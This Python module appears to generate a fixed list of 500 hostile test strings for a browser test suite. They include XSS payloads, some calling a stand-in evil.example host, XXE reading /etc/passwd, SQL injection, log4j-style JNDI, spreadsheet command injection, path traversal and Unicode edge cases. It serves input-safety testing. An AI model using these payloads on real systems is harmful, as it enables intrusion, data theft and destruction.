"""Strings that people and programs send to see what breaks: the same 500 in every run, made from families.

The browser's suite reads them too: `python3 hostile.py` prints them as JSON.
"""

import itertools
import json

ALL = 500

SCRIPTS = [
    "alert({n})",
    "window.__ran={n}",
    "fetch('//evil.example/{n}')",
    "document.title='owned {n}'",
    "top.location='//evil.example'",
]
WRAPS = [
    "<script>{s}</script>",
    "<img src=x onerror={s}>",
    "<svg onload={s}>",
    "<svg><script>{s}</script></svg>",
    "<body onload={s}>",
    "<iframe srcdoc='<script>{s}</script>'>",
    "<a href='javascript:{s}'>click</a>",
    "javascript:{s}//",
    "\"><script>{s}</script>",
    "'-{s}-'",
    "</title><script>{s}</script>",
    "</textarea><script>{s}</script>",
    "<details open ontoggle={s}>",
    "<math><mtext><mglyph><style><img src=x onerror={s}></style></mglyph></mtext></math>",
    "<input autofocus onfocus={s}>",
    "[click](javascript:{s})",
    "![x](x\"onerror=\"{s})",
    "data:text/html,<script>{s}</script>",
]
MARKUP = [
    "<b>bold</b>",
    "<h1>heading</h1>",
    "<!-- comment",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password>",
    "<img src=//evil.example/pixel.png>",
    "<table><tr><td>cell",
    "<plaintext>",
    "<marquee>x</marquee>",
    "<video src=//evil.example/v autoplay>",
    "<object data=//evil.example/o>",
    "&lt;script&gt;",
    "&#60;b&#62;",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<div style='position:fixed;inset:0;background:red;z-index:99999'>over all</div>",
]
BIDI = [chr(c) for c in (0x061C, 0x200E, 0x200F, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069)]
CONTROLS = [chr(c) for c in (*range(0x00, 0x20), 0x7F, 0x80, 0x85, 0x90, 0x9B, 0x9F)]
INVISIBLE = [chr(c) for c in (0x00AD, 0x034F, 0x115F, 0x1160, 0x180E, 0x200B, 0x200C, 0x200D, 0x2028, 0x2029, 0x2060, 0x3000, 0x3164, 0xFEFF, 0xFFA0, 0xFFFD, 0xFFFE, 0xFFFF, 0xE0001, 0x10FFFF)]
LENGTHS = [99, 100, 101, 128, 129, 199, 200, 201, 253, 254, 255, 256, 1023, 1024, 4000, 4001, 10_000, 65_536, 100_000]
FORMULAS = ["=1+1", "=HYPERLINK(\"//evil.example\",\"x\")", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "=1+1;\"", "\",=1+1,\"", "＝1+1", "%0A=1+1", "=IMPORTXML(\"//evil.example\",\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")"]
TEMPLATES = ["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%raw%}", "{{constructor.constructor('return 1')()}}", "${jndi:ldap://evil.example/a}", "{{name}}", "$t(common:cancel)", "%s%s%s%n", "{0}{1}", "%(name)s", "$(id)", "`id`", "{{- user -}}", "__proto__", "constructor", "toString", "$&$1$`", "\\u0041\\x41\\101"]
SQL = ["' OR '1'='1", "'; DROP TABLE users; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(9)", "' UNION SELECT secret FROM api_keys --", "%' AND 1=0 --", "\\'; --", "%", "_", "%%%%%", "[a-z]*", "1' WAITFOR DELAY '0:0:9'--", "'||'x", "/**/", "admin'--", "\x1a'"]
ODD = ["null", "undefined", "NaN", "true", "0", "-1", "1e309", "Infinity", "[]", "{}", "\"", "'", "\\", "/", "//", ".", "..", "../../etc/passwd", "..\\..\\", "%2e%2e%2f", "%00", "%", "?a=b&c=d", "#fragment", "a\r\nSet-Cookie: x=y", "a\r\n\r\nHTTP/1.1 200 OK", "CON", "~", "*", "|", ";", "&&", "$HOME", " ", "   ", "\u00a0", "a  b", " lead", "trail "]
UNICODE = ["é" * 40, "e\u0301" * 40, "ﷺ" * 20, "𝕳𝖊𝖑𝖑𝖔", "👩‍👩‍👧‍👦" * 8, "🇨🇳🇹🇼", "Z̸̡͍͎͔̦̘̞̱̪͌̋̑͋a̵l̶g̷o̸" * 4, "日本語テスト", "云信云信云信", "雲信雲信", "İıŞş", "ßẞ", "Ａｄｍｉｎ", "аdmin", "раураl", "مرحبا بالعالم", "שלום עולם", "ก็ก็ก็", "꧁꧂", "\U0001F600" * 30, "ΑΒΓ", "ｱｲｳ", "①②③", "ǅ", "ﬁ", "Å", "Ω", "½", "٣", "०"]
SURROGATES = ["\ud800", "a\udfffb", "\udc00\ud800", "\ud83d"]


def families() -> dict[str, list[str]]:
    """Every family by name; together `ALL` strings, all different."""
    made = {
        "scripts": [wrap.replace("{s}", script.replace("{n}", str(n))) for n, (wrap, script) in enumerate(itertools.product(WRAPS, SCRIPTS))],
        "markup": MARKUP,
        "bidi": [text.replace("*", mark) for mark in BIDI for text in ("*evil", "good*live", "a*b*c")],
        "controls": [text.replace("*", mark) for mark in CONTROLS for text in ("a*b", "*")],
        "invisible": [text.replace("*", mark) for mark in INVISIBLE for text in ("a*b", "*")],
        "long": [unit * (length // len(unit)) for length in LENGTHS for unit in ("x", "长", "W ")],
        "formulas": FORMULAS,
        "templates": TEMPLATES,
        "sql": SQL,
        "odd": ODD,
        "unicode": UNICODE,
        "surrogates": SURROGATES,
    }
    # What is left to ALL: one family inside another.
    inner = SQL + TEMPLATES + FORMULAS
    made["mixed"] = [f"{outer}{text}{BIDI[n % len(BIDI)]}" for n, (outer, text) in enumerate(itertools.product(MARKUP, inner))]
    seen: set[str] = set()
    for name, texts in made.items():
        made[name] = [text for text in dict.fromkeys(texts) if text not in seen][: ALL - len(seen)]
        seen.update(made[name])
    return made


FAMILIES = families()
STRINGS = [text for family in FAMILIES.values() for text in family]
assert len(STRINGS) == ALL == len(set(STRINGS)), (len(STRINGS), len(set(STRINGS)))


def body(**fields) -> bytes:
    """JSON in ASCII: half of a surrogate pair is valid JSON there, and no UTF-8."""
    return json.dumps(fields).encode()


if __name__ == "__main__":
    print(json.dumps(STRINGS))
